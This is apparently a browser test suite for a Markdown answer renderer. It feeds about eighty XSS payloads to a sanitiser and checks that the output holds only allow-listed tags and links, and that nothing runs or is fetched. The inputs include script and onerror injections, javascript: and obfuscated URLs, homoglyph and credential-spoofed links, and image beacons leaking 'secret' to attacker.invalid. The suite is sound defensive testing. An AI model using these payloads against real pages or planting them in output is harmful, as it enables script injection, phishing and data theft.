import {expect} from '@open-wc/testing';

import {messages, renderAnswer} from '../support/answer.js';

/** Everything an answer may consist of. What is not here must never be made, whatever the text says. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  P: ['class'],
  H4: [],
  H5: [],
  H6: [],
  UL: [],
  OL: ['start'],
  LI: ['class'],
  BLOCKQUOTE: [],
  HR: [],
  BR: [],
  STRONG: [],
  EM: [],
  DEL: [],
  SUB: [],
  SUP: [],
  KBD: [],
  CODE: [],
  PRE: ['tabindex', 'role', 'aria-label'],
  DIV: ['class', 'tabindex', 'role', 'aria-label'],
  SPAN: ['class', 'role', 'aria-label'],
  A: ['href', 'title', 'target', 'rel', 'referrerpolicy'],
  TABLE: [],
  THEAD: [],
  TBODY: [],
  TR: [],
  TH: ['scope', 'data-align'],
  TD: ['data-align'],
  BUTTON: ['type', 'class', 'aria-label', 'title'],
  svg: ['class', 'viewBox', 'aria-hidden'],
  path: ['d'],
};
const OUR_CLASSES = [
  'blocks',
  'blocks whole',
  'plain',
  'answer-note',
  'task',
  'code',
  'code-bar',
  'table',
  'host',
  'icon',
  'icon-button copy',
];
const OUR_LABELS = [messages.t('tableLabel'), messages.t('copyCode'), messages.t('taskDone'), messages.t('taskOpen')];

interface Attack {
  readonly text: string;
  /** The links that may be left, exactly. */
  readonly links?: readonly string[];
  /** Words the reader still gets. */
  readonly shows?: string;
}

const attacks: readonly Attack[] = [
  // HTML in every place that Markdown has for text
  {text: '<script>window.pwned = 1</script>', shows: '<script>'},
  {text: '<img src=x onerror="window.pwned = 1">', shows: '<img src=x'},
  {text: '<svg onload=window.pwned=1><animate onbegin=window.pwned=1>'},
  {text: '# <img src=x onerror=window.pwned=1>'},
  {text: 'Setext <img src=x onerror=window.pwned=1>\n==='},
  {text: '- <iframe srcdoc="<script>parent.pwned=1</script>">'},
  {text: '> <object data="https://attacker.invalid/x">'},
  {text: '| <embed src=x> |\n|---|\n| <style>*{display:none}</style> |', shows: '<embed src=x>'},
  {text: '**<video><source onerror=window.pwned=1></video>**'},
  {text: '[<img src=x onerror=window.pwned=1>](https://example.com/)', links: ['https://example.com/']},
  {text: '`<script>`', shows: '<script>'},
  {text: '```html\n</code></pre><script>window.pwned = 1</script>\n```', shows: '</code></pre><script>'},
  {text: '```"><img src=x onerror=window.pwned=1>\ncode\n```', shows: 'code'},
  {text: '<form action="https://attacker.invalid/"><input name=q><button>Send</button></form>', shows: '<form'},
  {text: '<dialog open>Sign in</dialog><marquee>x</marquee>', shows: '<dialog open>'},
  {text: '<a href="javascript:window.pwned=1">press</a>', links: [], shows: 'press'},
  {text: '<a name="body" id="location">x</a>'},
  {text: '<base href="https://attacker.invalid/"><link rel=stylesheet href=//attacker.invalid/x.css>'},
  {text: '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">'},
  {text: '<!--><script>window.pwned=1</script>-->'},
  {text: '<?xml-stylesheet href="javascript:window.pwned=1"?>'},
  {text: '<![CDATA[<script>window.pwned=1</script>]]>'},
  {text: '<sub onclick=window.pwned=1>x</sub>', shows: 'onclick'},
  {text: '<kbd\nstyle="position:fixed">x</kbd>'},
  {text: '<SUP>x</SUP><bR/>', shows: 'x'},
  {text: '<br onload=window.pwned=1>', shows: 'onload'},
  {text: '<tillit-chat endpoint="https://attacker.invalid"></tillit-chat>', shows: '<tillit-chat'},
  {text: '<slot name="header"></slot><template shadowrootmode=open><script>window.pwned=1</script></template>'},
  {text: '<p part="terms" class="root" slot="launcher">x</p>', shows: 'part='},
  {text: '&lt;script&gt;window.pwned=1&lt;/script&gt;', shows: '<script>window.pwned=1</script>'},
  {text: '&#60;img src=x onerror=window.pwned=1&#62;', shows: '<img src=x'},
  {text: '<math><mtext></p><mglyph><style></math><img src onerror=window.pwned=1>'},
  // Addresses
  {text: '[x](javascript:window.pwned=1)', links: [], shows: 'x'},
  {text: '[x](JaVaScRiPt:window.pwned=1)', links: []},
  {text: '[x](java&#x0A;script:window.pwned=1)', links: []},
  {text: '[x](&#106;avascript:window.pwned=1)', links: []},
  {text: '[x](\\javascript:window.pwned=1)', links: []},
  {text: '[x](<  javascript:window.pwned=1>)', links: []},
  {text: '[x](java\u200bscript:alert(1))', links: []},
  {text: '[x](vbscript:msgbox(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](blob:https://example.com/1)', links: []},
  {
    text: '[x](file:///etc/passwd) [y](filesystem:https://x/1) [z](intent://x#Intent;end) [w](ms-settings:x)',
    links: [],
  },
  {text: '[x](//attacker.invalid/) [y](/admin) [z](?a=1) [w](#top) [v](page.html) [u](..\\x)', links: []},
  {text: '[x](https:attacker.invalid) [y](https:/attacker.invalid) [z](https:\\\\attacker.invalid)', links: []},
  {text: '<javascript:window.pwned=1> <data:text/html,x>', links: []},
  {text: '[x][1]\n\n[1]: javascript:window.pwned=1', links: [], shows: 'x'},
  {text: '[x]: javascript:window.pwned=1\n\n[x] and ![x]', links: []},
  {text: '[x](https://user:secret@example.com/)', links: ['https://example.com/']},
  {
    text: '[example.com](https://example.com@attacker.invalid/)',
    links: ['https://attacker.invalid/'],
    shows: '(attacker.invalid)',
  },
  {
    text: '[https://bank.example/login](https://attacker.invalid/)',
    links: ['https://attacker.invalid/'],
    shows: '(attacker.invalid)',
  },
  {
    text: '[bank.example](https://bank.example.attacker.invalid/)',
    links: ['https://bank.example.attacker.invalid/'],
    shows: '(bank.example.attacker.invalid)',
  },
  {
    text: '[docs](https://docs.еxample.com/)',
    links: ['https://docs.xn--xample-2of.com/'],
    shows: '(docs.xn--xample-2of.com)',
  },
  {text: 'https://docs.еxample.com/ is not example.com', shows: '(docs.xn--xample-2of.com)'},
  {text: '[x](https://example.com/%F3%A0%81%88hidden)', links: []},
  {text: '[x](https://example.com/\u{E0048}\u{E0049})', links: ['https://example.com/']},
  {text: '[x](https://example.com/\u202Egnp.exe)', links: ['https://example.com/gnp.exe']},
  {text: '[x](mailto:a@example.com?bcc=all@attacker.invalid&body=secret)', links: ['mailto:a@example.com']},
  {text: '[x](mailto:?attach=/etc/passwd) <mailto:a@b.c"onclick=window.pwned=1>', shows: 'x'},
  {
    text: '[x](tel:*21*+15550100#) [y](tel:+15550100;phone-context=x) [z](sms:+15550100&body=hi)',
    links: ['tel:+15550100'],
  },
  {text: '[x](https://example.com/" onclick="window.pwned=1)', links: ['https://example.com/']},
  {text: '[x](https://example.com/"onclick="window.pwned=1)', shows: 'x'},
  {text: '[x](https://example.com/ "t\\" onclick=window.pwned=1 \\"")', links: ['https://example.com/']},
  {text: '[x](http://0x7f.1/)', links: ['http://127.0.0.1/']},
  // What would leave by itself
  {text: '![x](https://attacker.invalid/leak.png?q=secret)', links: [], shows: 'x'},
  {text: '![x](//attacker.invalid/a.png) ![y](data:image/svg+xml,<svg onload=alert(1)>)', shows: 'x'},
  {text: '![x][1]\n\n[1]: https://attacker.invalid/leak.png', shows: 'x'},
  {
    text: '[![x](https://attacker.invalid/a.png)](https://attacker.invalid/?q=secret)',
    links: ['https://attacker.invalid/?q=secret'],
  },
  {text: '<img src="https://attacker.invalid/a.png">', shows: '<img src='},
  {text: '```mermaid\nclick A "javascript:window.pwned=1"\n```', shows: 'click A'},
  {text: '$$\n\\href{javascript:window.pwned=1}{x}\n$$', shows: '\\href'},
  // What cannot be seen
  {text: 'a\u202Eb\u2066c\u2069d', shows: 'abcd'},
  {text: 'Hi\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065} all', shows: 'Hi all'},
  {text: 'a&#x202E;b&#xE0041;c', shows: 'abc'},
  {text: '\ud800 and \udfff', shows: '\ufffd and \ufffd'},
  {text: `x${'\u0301'.repeat(200)}y`, shows: 'y'},
  {text: `x\ufe0f${'\ufe01'.repeat(50)}y${'\u{E0100}'.repeat(50)}z`, shows: 'z'},
  {text: '\u0000\u0008\u001b[31mred\u009b', shows: 'red'},
  // Names of things in the page and in the language
  {text: '[x][__proto__] [y][constructor] [z][toString]', links: []},
  {text: '[__proto__]: https://example.com/\n\n[__proto__]', links: ['https://example.com/']},
  {text: '[^1]: <img src=x onerror=window.pwned=1>\n\n[^1]'},
  {text: '【1†<img src=x onerror=window.pwned=1>】'},
];

const wrong = (element: Element): string[] => {
  const faults: string[] = [];
  for (const node of element.querySelectorAll('*')) {
    const allowed = ALLOWED[node.tagName];
    if (!allowed) faults.push(`<${node.tagName}>`);
    for (const {name, value} of node.attributes) {
      if (!allowed?.includes(name)) faults.push(`${node.tagName} ${name}="${value}"`);
      if (name === 'class' && !OUR_CLASSES.includes(value)) faults.push(`class="${value}"`);
      if (name === 'aria-label' && !OUR_LABELS.includes(value) && node.tagName !== 'PRE')
        faults.push(`aria-label="${value}"`);
      if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) faults.push(`href="${value}"`);
      if (name === 'rel' && value !== 'noopener noreferrer') faults.push(`rel="${value}"`);
    }
  }
  if (
    // eslint-disable-next-line no-control-regex -- it is these that must not be there
    /[\u202a-\u202e\u2066-\u2069\u{E0000}-\u{E007F}]|\p{Surrogate}|[\0-\x08\x0b-\x1f\x7f-\x9f]/u.test(
      element.textContent,
    )
  )
    faults.push('unseen characters');
  return faults;
};

describe('an answer that attacks', () => {
  const start = performance.now();

  for (const {text, links, shows} of attacks) {
    it(JSON.stringify(text).slice(0, 120), async () => {
      const element = await renderAnswer({markdown: text});
      expect(wrong(element)).to.deep.equal([]);
      if (links)
        expect([...element.querySelectorAll('a')].map((link) => link.getAttribute('href'))).to.deep.equal(links);
      if (shows !== undefined) expect(element.textContent.replace(/\s+/g, ' ')).to.include(shows);

      const streamed = await renderAnswer({streaming: true});
      for (let end = 1; end <= text.length; end += Math.ceil(text.length / 8)) {
        streamed.markdown = text.slice(0, end);
        await streamed.updateComplete;
        expect(wrong(streamed), `after ${end} characters`).to.deep.equal([]);
      }
    });
  }

  it('ran nothing and fetched nothing', async () => {
    // Long enough for what an image or a frame would have started.
    await new Promise((done) => setTimeout(done, 100));
    expect('pwned' in window).to.equal(false);
    const fetched = performance
      .getEntriesByType('resource')
      .filter(({startTime, name}) => startTime >= start && name.includes('attacker'));
    expect(fetched.map(({name}) => name)).to.deep.equal([]);
    expect(Object.keys(Object.prototype)).to.deep.equal([]);
  });
});
